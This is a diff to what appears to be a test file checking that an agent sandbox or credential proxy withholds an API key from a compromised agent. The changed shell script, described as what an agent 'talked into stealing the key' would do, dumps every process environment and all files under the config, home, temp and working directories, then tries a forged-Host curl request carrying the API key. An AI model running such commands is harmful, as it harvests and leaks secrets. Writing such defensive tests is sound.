@@ -25,15 +25,17 @@ API_HOST = "fakeapi.test"
 OTHER_HOST = "other.example.test"
 ANSWER = "The search is done."
 
-# What an agent talked into stealing the key would do: read everything it can, try the route with a
-# forged Host, send the placeholder to another allowed host, go to the API host around the route.
-SEARCH = r"""
+# What an agent talked into stealing the key would do: read everything it can (DUMP: into $d), try the
+# route with a forged Host, send the placeholder to another allowed host, go to the API host around the route.
+DUMP = r"""
 d=/tmp/chtop-search.txt; : > "$d"
 for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" >> "$d" 2>/dev/null; done
 for top in "$CLAUDE_CONFIG_DIR" "$HOME" /tmp "$PWD"; do
   find "$top" -xdev -type f ! -name chtop-search.txt ! -name search-dump.txt -size -5M -print0 2>/dev/null \
     | xargs -0 cat >> "$d" 2>/dev/null
 done
+"""
+SEARCH = DUMP + r"""
 echo "placeholders: $(grep -c chtop-placeholder "$d")"
 curl -s -o /dev/null -w 'forged:%{http_code}\n' -H 'Host: @API@' -H "x-api-key: $ANTHROPIC_API_KEY" \
   -d '{}' "$ANTHROPIC_BASE_URL/v1/messages"
